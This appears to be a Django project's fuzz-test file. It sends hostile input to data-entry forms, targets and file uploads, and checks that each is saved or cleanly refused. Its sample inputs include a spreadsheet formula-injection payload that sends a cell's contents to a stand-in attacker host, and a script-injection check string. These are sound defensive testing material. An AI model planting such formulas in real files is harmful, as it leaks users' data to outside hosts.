"""Hostile input to the main forms through the real views (hypothesis), issue 9.

The value entry (htmx POST of value, numerator, denominator and comment), the indicator form,
the target table, the complaints import upload and the Excel returns upload. Whatever is sent,
the answer is never a 500: either the input is accepted, or the page answers 200/400 with an
error that names the field, and the database is exactly as it was.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
import zoneinfo

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from performance.models import AuditEvent, Indicator, Target, Value
from reach_summit.models import Complaint
from tests.performance.collection.test_collection import build_world
from tests.security.test_fuzz_imports import HOSTILE

LONDON = zoneinfo.ZoneInfo("Europe/London")
pytestmark = pytest.mark.django_db
FUZZ = settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,  # the same examples in CI every run: a failure is reproducible
)

MORE_HOSTILE = [
    "x" * 10_000,
    "\x00",
    "5\x00",
    "ok\x00comment",
    "مرحبا \u202b123\u202c",
    "👩🏽‍💻🏔️🔥" * 50,
    "1" + "0" * 30,
    "-inf",
    "nan",
    "sNaN",
    "1e999999",
    "99999999999999999.9999999",
    "\ud7ff\ufffe",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
]
field_text = st.one_of(
    st.sampled_from(HOSTILE + MORE_HOSTILE),
    st.text(max_size=60),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
)


def at_entry_time():
    return time_machine.travel(dt.datetime(2025, 7, 4, 10, 0, tzinfo=LONDON), tick=False)


def fingerprint() -> tuple:
    """Every row these forms could touch."""
    return (
        list(Value.objects.order_by("pk").values_list()),
        list(Target.objects.order_by("pk").values_list()),
        list(Indicator.objects.order_by("pk").values_list()),
        list(Complaint.objects.order_by("pk").values_list()),
        AuditEvent.objects.count(),
    )


@pytest.fixture
def world(db):
    with at_entry_time():
        return build_world()


def _text(response) -> str:
    return response.content.decode(errors="replace")


# --------------------------------------------------------------------------- value entry

ENTRY_FIELDS = ("value", "numerator", "denominator", "comment")


def _entry(value="96", comment="", numerator="", denominator=""):
    return {"value": value, "numerator": numerator, "denominator": denominator, "comment": comment}


@FUZZ
@given(
    data=st.fixed_dictionaries(dict.fromkeys(ENTRY_FIELDS, field_text)),
    submit=st.booleans(),
)
@example(data=_entry(comment="ok\x00comment"), submit=False)
@example(data=_entry(value="9\x006"), submit=True)
@example(data=_entry(comment="x" * 10_000), submit=False)
@example(data=_entry(comment="\u202e🏔️ مرحبا"), submit=True)
@example(data=_entry(value="1e999999"), submit=False)
@example(data=_entry(value="NaN"), submit=False)
@example(data=_entry(value='=HYPERLINK("http://evil.example","x")'), submit=False)
def test_hostile_value_entry_is_saved_or_refused_naming_the_field(client, world, data, submit):
    indicator = world.indicators["WAS 001"]
    client.force_login(world.users["enterer_a"])
    url = reverse("performance:return-item", args=[world.quarterly.pk, indicator.pk])
    with at_entry_time():
        before = fingerprint()
        current = Value.objects.filter(indicator=indicator, period=world.quarterly.period).first()
        version = str(current.version) if current else "0"
        post = {**data, "version": version, "action": "submit" if submit else "draft"}
        response = client.post(url, post, HTTP_HX_REQUEST="true")
    assert response.status_code in (200, 400), response.status_code
    body = _text(response)
    if "there is a problem" in body or "not saved" in body:
        assert fingerprint() == before, "a refused entry changed the database"
        named = re.findall(r'href="#item-[^"]*-(value|numerator|denominator|comment)"', body)
        assert named or "not saved" in body, "the error does not name a field"
    else:
        assert "Saved WAS 001" in body or "Submitted WAS 001" in body, body[:2000]
    assert "<script>alert(1)</script>" not in body


# ----------------------------------------------------------------------------- indicator


def _indicator_post(indicator: Indicator) -> dict:
    from performance.manage.forms import IndicatorForm

    form = IndicatorForm(instance=indicator)
    data = {}
    for name in form.fields:
        value = form[name].value()
        if value is None:
            continue
        data[name] = [str(v) for v in value] if isinstance(value, list | tuple) else str(value)
    return data


INDICATOR_FIELDS = [
    "code",
    "title",
    "kind",
    "perspective",
    "polarity",
    "unit",
    "decimals",
    "tolerance",
    "frequency",
    "aggregation",
    "team",
    "enterers",
]


@FUZZ
@given(field=st.sampled_from(INDICATOR_FIELDS), value=field_text, create=st.booleans())
def test_hostile_indicator_form_is_saved_or_refused_naming_the_field(
    client, world, field, value, create
):
    indicator = world.indicators["WAS 002"]
    client.force_login(world.users["officer"])
    data = _indicator_post(indicator)
    if field not in data and field not in ("tolerance",):
        return
    data[field] = value
    if create:
        data["code"] = value if field == "code" else "FUZ 001"
        url = reverse("performance:manage-create", args=["indicators"])
    else:
        url = reverse("performance:manage-edit", args=["indicators", indicator.pk])
    with at_entry_time():
        before = fingerprint()
        response = client.post(url, data)
    assert response.status_code in (200, 302, 400), response.status_code
    if response.status_code != 302:
        assert response.status_code == 400
        assert fingerprint() == before, "a refused form changed the database"
        assert f'href="#id_{field}"' in _text(response) or "govuk-error-summary" in _text(response)
    else:
        Indicator.objects.filter(code="FUZ 001").delete()


# -------------------------------------------------------------------------------- targets


@FUZZ
@given(values=st.lists(field_text, min_size=4, max_size=4), note=field_text)
def test_hostile_target_rows_are_refused_row_by_row(client, world, values, note):
    indicator = world.indicators["WAS 001"]
    client.force_login(world.users["officer"])
    url = reverse("performance:manage-targets", args=[indicator.pk]) + "?year=2025/26"
    with at_entry_time():
        page = client.get(url)
        assert page.status_code == 200
        rows = page.context["formset"].total_form_count()
        data = {
            "t-TOTAL_FORMS": str(rows),
            "t-INITIAL_FORMS": "0",
            "t-MIN_NUM_FORMS": str(rows),
            "t-MAX_NUM_FORMS": str(rows),
            "action": "save",
        }
        for index in range(rows):
            data[f"t-{index}-value"] = values[index % len(values)]
            data[f"t-{index}-realism_note"] = note
        before = fingerprint()
        response = client.post(url, data)
    assert response.status_code in (200, 302, 400), response.status_code
    if response.status_code != 302:
        assert fingerprint() == before, "refused targets changed the database"
        assert "govuk-error-message" in _text(response) or "govuk-error-summary" in _text(response)


# --------------------------------------------------------------------- complaints upload


def _xlsx(rows) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv(rows) -> bytes:
    import csv

    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8", errors="surrogatepass")


COMPLAINT_HEADER = ["reference", "team", "stage", "received", "responded"]


@FUZZ
@given(
    rows=st.lists(st.lists(field_text, min_size=5, max_size=5), min_size=1, max_size=4),
    suffix=st.sampled_from([".csv", ".xlsx"]),
)
def test_hostile_complaint_files_are_refused_with_the_row(client, world, rows, suffix):
    client.force_login(world.users["officer"])
    try:
        data = (
            _xlsx([COMPLAINT_HEADER, *rows])
            if suffix == ".xlsx"
            else _csv([COMPLAINT_HEADER, *rows])
        )
    except (ValueError, UnicodeEncodeError, IllegalCharacterError):
        return  # not representable in the file format at all (control characters in xlsx)
    upload = SimpleUploadedFile(f"complaints{suffix}", data)
    before = fingerprint()
    response = client.post(reverse("reach_summit:complaints-import"), {"file": upload})
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        assert fingerprint() == before
        body = _text(response)
        assert "Row " in body or "row " in body or "govuk-error-message" in body


@FUZZ
@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".csv", ".xlsx", ".exe", ""]))
def test_random_bytes_as_a_complaints_file_are_refused(client, world, data, suffix):
    client.force_login(world.users["officer"])
    before = fingerprint()
    upload = SimpleUploadedFile(f"complaints{suffix}", data)
    response = client.post(reverse("reach_summit:complaints-import"), {"file": upload})
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        assert fingerprint() == before


# --------------------------------------------------------------------------- Excel upload


def _returns_workbook(client) -> bytes:
    response = client.get(reverse("performance:returns-download"))
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@FUZZ
@given(cut=st.floats(min_value=0.0, max_value=0.999), mode=st.sampled_from(["draft", "submit"]))
def test_a_truncated_workbook_is_refused_with_a_clear_message(client, world, cut, mode):
    client.force_login(world.users["enterer_a"])
    with at_entry_time():
        whole = _returns_workbook(client)
        data = whole[: int(len(whole) * cut)]
        before = fingerprint()
        response = client.post(
            reverse("performance:returns-upload"),
            {"workbook": SimpleUploadedFile("returns.xlsx", data), "mode": mode},
        )
    assert response.status_code == 400, response.status_code
    assert fingerprint() == before
    assert "govuk-error-message" in _text(response) or "govuk-error-summary" in _text(response)


@FUZZ
@given(member=st.binary(max_size=500))
def test_a_workbook_with_a_corrupt_part_is_refused(client, world, member):
    client.force_login(world.users["enterer_a"])
    with at_entry_time():
        whole = _returns_workbook(client)
        source = zipfile.ZipFile(io.BytesIO(whole))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for info in source.infolist():
                payload = source.read(info)
                if info.filename.startswith("xl/worksheets/"):
                    payload = member
                target.writestr(info, payload)
        before = fingerprint()
        response = client.post(
            reverse("performance:returns-upload"),
            {"workbook": SimpleUploadedFile("returns.xlsx", out.getvalue()), "mode": "draft"},
        )
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:
        assert fingerprint() == before
